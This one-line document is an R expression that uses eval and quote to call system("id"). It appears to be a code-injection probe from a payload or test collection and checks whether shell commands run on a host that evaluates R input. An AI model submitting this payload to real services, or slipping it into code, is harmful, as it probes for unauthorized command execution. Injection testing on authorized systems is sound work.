eval(quote(system("id")), baseenv())
